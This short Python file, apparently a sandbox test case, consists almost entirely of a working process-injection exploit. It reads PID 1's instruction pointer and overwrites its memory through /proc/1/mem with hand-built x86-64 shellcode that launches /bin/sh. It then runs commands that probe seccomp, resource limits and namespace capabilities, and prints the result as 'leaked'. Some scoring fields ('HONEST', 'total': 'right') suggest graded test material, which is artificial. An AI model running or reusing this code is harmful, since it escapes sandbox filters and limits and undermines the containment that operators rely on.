"""Writes code into the box's first process, which no filter and no limit holds, and has it run."""

HONEST = 4
KEEPS = 0
CODE = {
    "double": r"""
import os, struct, time

COMMAND = b"exec >/tmp/ran 2>&1 </dev/null; echo started a program; "
COMMAND += b"grep Seccomp: /proc/self/status; ulimit -d; "
COMMAND += b"/usr/bin/unshare -Ur grep CapEff /proc/self/status; exec sleep 100\0"
head = b"\x48\x8d\x3d%b\x48\x8d\x35%b\x48\x8d\x15%b\x6a\x00\x52\x56\x57\x48\x89\xe6\x31\xd2"
head += b"\xb8\x3b\x00\x00\x00\x0f\x05"
length = 21 + 17
texts = [b"/bin/sh\0", b"-c\0", COMMAND]
places = [length, length + 8, length + 11]
offsets = [struct.pack("<i", place - 7 * (n + 1)) for n, place in enumerate(places)]
code = head.replace(b"%b", b"%b") % tuple(offsets)
assert len(code) == length, len(code)
try:
    pc = int(open("/proc/1/syscall").read().split()[-1], 16)
    with open("/proc/1/mem", "r+b", buffering=0) as memory:
        memory.seek(pc)
        memory.write(code + b"".join(texts))
    with open("/proc/1/fd/0", "wb", buffering=0) as pipe:
        pipe.write(b"x")
    time.sleep(1)
    print("leaked:", open("/tmp/ran").read())
except OSError as error:
    print("refused", error)
""",
    "total": "right",
    "pick": "right",
}
